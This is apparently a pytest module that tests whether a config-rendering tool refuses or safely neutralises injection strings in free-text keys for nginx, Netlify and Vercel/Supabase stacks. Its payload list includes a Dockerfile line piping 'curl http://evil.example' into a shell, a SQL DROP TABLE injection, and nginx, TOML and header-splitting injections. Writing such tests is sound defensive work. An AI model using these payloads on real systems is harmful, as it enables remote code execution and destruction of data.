"""Injection strings into every free-text key of the three stacks; every rendered file is parsed back.

A payload is either refused (exit 2, naming the key) or rendered harmlessly: each file must still parse with a
real parser — nginx ``-t`` on the real nginx, TOML (tomllib), JSON, SQL (pglast, PostgreSQL's own parser),
Netlify ``_headers``, Dockerfile instructions — and keep the structure of the same stack rendered with the benign
value (same SQL statement count, same Dockerfile instruction sequence, same number of nginx directives and
blocks, same ``_headers`` blocks): a payload that parses but adds a statement or a directive is an injection too.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pglast
import pytest
import yaml
from harness import REPO, judge, scratch_project
from mutations import SECRET_ARGS, SECRET_MARKERS
from tally import TALLY

NGINX = shutil.which("nginx") or "/usr/sbin/nginx"

PAYLOADS = {
    "newline": "22\n",
    "dockerfile-line": "x\nRUN curl http://evil.example | sh",
    "nginx-directive": "x; add_header X-Evil 1",
    "nginx-block": "x}\nserver { listen 9999; }",
    "toml-table": 'x"\n[evil]\nk = "1',
    "sql-statement": "x'); DROP TABLE zzinject; --",
    "header-line": "x\r\nX-Injected: 1",
    "quote-brace": "a\"b'c{d}e;f`g$h\\",
}

EXTRA_TABLE = {"schema": "public", "name": "notes", "policies": [
    {"kind": "owner", "name": "notes_owner", "column": "owner_id"},
    {"kind": "sql", "name": "notes_read", "roles": ["authenticated"], "commands": ["select"],
     "using": "published = true", "reason": "published notes are readable by every signed-in user"},
]}

# (stack, path in the config section) for every free-text key; lists/dicts are reached by index/key.
KEYS: list[tuple[str, tuple[Any, ...]]] = [
    *[("prod", ("webstack:hosting", "vercel", k)) for k in ("projectName", "nodeVersion", "installCommand",
                                                            "buildCommand", "outputDirectory")],
    ("prod", ("webstack:hosting", "vercel", "gitRepository", "repo")),
    ("prod", ("webstack:hosting", "vercel", "gitRepository", "productionBranch")),
    ("prod", ("webstack:domain",)),
    ("prod", ("webstack:cloudflare", "caa", 0)),
    ("prod", ("webstack:cloudflare", "caaReportEmail")),
    ("prod", ("webstack:cloudflare", "extraRecords", 1, "content")),
    ("prod", ("webstack:cloudflare", "extraRecords", 2, "name")),
    ("prod", ("webstack:rateLimits", 0, "path")),
    ("prod", ("webstack:env", "NODE_ENV")),
    ("prod", ("webstack:headers", "extraHeaders", "X-Team")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "name")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "schema")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "policies", 0, "name")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "policies", 0, "column")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "policies", 1, "using")),
    ("prod", ("webstack:supabase", "database", "tables", 0, "policies", 1, "reason")),
    *[("selfhosted", ("webstack:hosting", "nginx", k)) for k in ("nodeVersion", "nginxVersion", "appDir",
                                                                 "imageName", "originIpv4", "logMaxSize")],
    ("selfhosted", ("webstack:domain",)),
    ("selfhosted", ("webstack:headers", "extraHeaders", "X-Team")),
    ("selfhosted", ("webstack:rateLimits", 0, "path")),
    *[("netlify", ("webstack:hosting", "netlify", k)) for k in ("siteName", "buildCommand", "publishDir",
                                                                "nodeVersion")],
    ("netlify", ("webstack:headers", "extraHeaders", "X-Team")),
    ("netlify", ("webstack:env", "VITE_ENABLE_ANALYTICS")),
]


def base_config(stack: str) -> dict[str, Any]:
    """The example stack plus the optional free-text keys (an extra header, a table with policies, a rate limit)."""
    doc = yaml.safe_load((REPO / f"Pulumi.{stack}.yaml").read_text())
    config = doc["config"]
    config.setdefault("webstack:headers", {})["extraHeaders"] = {"X-Team": "web"}
    config["webstack:supabase"].setdefault("database", {})["tables"] = [copy.deepcopy(EXTRA_TABLE)]
    config.setdefault("webstack:rateLimits", [{"path": "/api/*", "requestsPerPeriod": 100, "period": 60,
                                               "mitigationTimeout": 60, "burst": 20}])
    return doc


def _set(doc: dict[str, Any], path: tuple[Any, ...], value: str) -> None:
    holder: Any = doc["config"]
    for p in path[:-1]:
        holder = holder[p]
    holder[path[-1]] = value


# -------------------------------------------------------------------------------------------------- parse-back


def _nginx_signature(text: str) -> tuple[int, int]:
    """(directives, blocks): ``;`` and ``{`` outside quotes and comments."""
    directives = blocks = 0
    quote = ""
    i = 0
    while i < len(text):
        c = text[i]
        if quote:
            if c == "\\":
                i += 1
            elif c == quote:
                quote = ""
        elif c in "\"'":
            quote = c
        elif c == "#":
            while i < len(text) and text[i] != "\n":
                i += 1
        elif c == ";":
            directives += 1
        elif c == "{":
            blocks += 1
        i += 1
    return directives, blocks


def _dockerfile_instructions(text: str) -> list[str]:
    logical, current = [], ""
    for line in text.splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line
        if line.endswith("\\"):
            current = current[:-1]
            continue
        logical.append(current)
        current = ""
    keywords = {"FROM", "RUN", "COPY", "ADD", "ARG", "ENV", "WORKDIR", "USER", "EXPOSE", "HEALTHCHECK", "CMD",
                "ENTRYPOINT", "LABEL", "STOPSIGNAL", "VOLUME", "SHELL", "ONBUILD"}
    words = [line.split(None, 1)[0].upper() for line in logical]
    bad = [w for w in words if w not in keywords]
    assert not bad, f"not Dockerfile instructions: {bad}"
    return words


def _headers_blocks(text: str) -> list[int]:
    blocks: list[int] = []
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if not line[0].isspace():
            assert line.startswith("/"), f"a _headers path line must start with '/': {line[:80]!r}"
            blocks.append(0)
            continue
        assert blocks and re.fullmatch(r"\s+[A-Za-z0-9-]+: \S.*", line), f"not a header line: {line[:80]!r}"
        blocks[-1] += 1
    return blocks


def signature(out: Path) -> dict[str, Any]:
    """Parse every rendered file with its real parser; return its structure (raises on anything unparseable)."""
    sig: dict[str, Any] = {}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        rel = path.relative_to(out).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel.startswith("report.") or rel.endswith(".md"):
            if rel.endswith((".json", ".sarif")):
                json.loads(text)
            continue
        if rel.endswith(".json"):
            json.loads(text)
            sig[rel] = "json"
        elif rel.endswith(".toml"):
            doc = tomllib.loads(text)
            sig[rel] = (sorted(doc), len(doc.get("headers", [])))
        elif rel.endswith(".sql"):
            sig[rel] = len(pglast.parse_sql(text))
        elif rel.endswith("_headers"):
            sig[rel] = _headers_blocks(text)
        elif rel.endswith("Dockerfile"):
            sig[rel] = _dockerfile_instructions(text)
        elif rel.endswith(".conf"):
            sig[rel] = _nginx_signature(text)
    return sig


@pytest.fixture(scope="session")
def test_pki(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    d = tmp_path_factory.mktemp("pki")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                    "-nodes", "-keyout", str(d / "k.pem"), "-out", str(d / "c.pem"), "-subj", "/CN=site.test",
                    "-days", "2"], check=True, capture_output=True)
    return d / "c.pem", d / "k.pem"


def nginx_accepts(out: Path, pki: tuple[Path, Path]) -> str:
    """``nginx -t`` on the rendered tree (certificate paths pointed at a test certificate); '' when accepted."""
    tree = out / "nginx"
    conf = tree / "nginx.conf"
    text = conf.read_text()
    text = re.sub(r"ssl_certificate\s+\S+;", f"ssl_certificate {pki[0]};", text)
    text = re.sub(r"ssl_certificate_key\s+\S+;", f"ssl_certificate_key {pki[1]};", text)
    conf.write_text(text)
    state = out / "nginx-state"
    state.mkdir(exist_ok=True)
    result = subprocess.run([NGINX, "-t", "-p", f"{tree}/", "-c", str(conf), "-e", str(state / "error.log")],
                            capture_output=True, text=True, timeout=30, check=False)
    return "" if result.returncode == 0 else result.stderr[-1500:]


def _render(tmp: Path, stack: str, doc: dict[str, Any], name: str) -> tuple[int, Path, str]:
    project = scratch_project(tmp / "project", stack, yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))
    out = project / "out"
    outcome = judge(name, ["preview", "--stack", stack, "--cwd", str(project), "--no-policy", "--out", str(out),
                           *SECRET_ARGS], allowed={0, 1, 2}, secrets=SECRET_MARKERS)
    assert not outcome.problems, f"{name}: {outcome.problems}\n{outcome.err[-2000:]}"
    return outcome.code, out, outcome.err


@pytest.fixture(scope="module")
def baselines(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    found = {}
    for stack in ("prod", "selfhosted", "netlify"):
        code, out, err = _render(tmp_path_factory.mktemp(f"base-{stack}"), stack, base_config(stack),
                                 f"injection/{stack}/baseline")
        assert code in (0, 1), err
        found[stack] = signature(out)
    return found


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize(("stack", "path"), KEYS, ids=[f"{s}:{'.'.join(map(str, p))}" for s, p in KEYS])
def test_injection_is_refused_or_harmless(stack: str, path: tuple[Any, ...], payload: str, tmp_path: Path,
                                          baselines: dict[str, dict[str, Any]],
                                          test_pki: tuple[Path, Path]) -> None:
    doc = base_config(stack)
    _set(doc, path, PAYLOADS[payload])
    key = ".".join(map(str, path))
    code, out, err = _render(tmp_path, stack, doc, f"injection/{stack}/{key}/{payload}")
    if code == 2:
        named = path[0] in err or "webstack:" in err
        assert named, f"refused without naming the key:\n{err[:1500]}"
        return
    problems = []
    try:
        sig = signature(out)
    except Exception as exc:  # any parser error is the finding
        problems.append(f"a rendered file does not parse: {type(exc).__name__}: {str(exc)[:300]}")
        sig = {}
    if sig and sig != baselines[stack]:
        changed = sorted(k for k in set(sig) | set(baselines[stack]) if sig.get(k) != baselines[stack].get(k))
        problems.append(f"structure changed in {changed[:5]}")
    if (out / "nginx" / "nginx.conf").exists():
        refused = nginx_accepts(out, test_pki)
        if refused:
            problems.append(f"nginx -t refuses the rendered config: {refused}")
    if problems:
        TALLY.add("malformed artifacts", len(problems))
    assert not problems, f"{key} = {PAYLOADS[payload]!r} was accepted and: {problems}"
